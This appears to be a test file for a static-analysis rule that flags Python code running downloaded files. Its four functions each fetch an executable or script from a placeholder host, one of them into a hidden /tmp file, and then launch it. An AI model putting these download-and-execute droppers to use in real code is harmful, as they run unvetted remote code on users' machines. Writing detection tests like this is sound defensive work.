import os
import subprocess
import sys
import tempfile
import urllib.request

import requests


def drop():
    path = os.path.join(tempfile.gettempdir(), "update.exe")
    with open(path, "wb") as file:
        file.write(requests.get("https://example.com/u.exe").content)
    # ruleid: py-runs-downloaded-file
    os.startfile(path)


def drop_by_chunks():
    answer = requests.get("https://example.com/u", stream=True)
    with open("/tmp/.u", "wb") as file:
        for chunk in answer.iter_content(1024):
            file.write(chunk)
    os.chmod("/tmp/.u", 0o755)
    # ruleid: py-runs-downloaded-file
    subprocess.Popen(["/tmp/.u"], start_new_session=True)


def drop_script():
    script = tempfile.NamedTemporaryFile(suffix=".py", delete=False)
    script.write(urllib.request.urlopen("https://example.com/s").read())
    script.close()
    # ruleid: py-runs-downloaded-file
    subprocess.run([sys.executable, script.name])


def retrieve():
    urllib.request.urlretrieve("https://example.com/u.sh", "/tmp/u.sh")
    # ruleid: py-runs-downloaded-file
    os.system("bash /tmp/u.sh" if False else "sh " + "/tmp/u.sh")
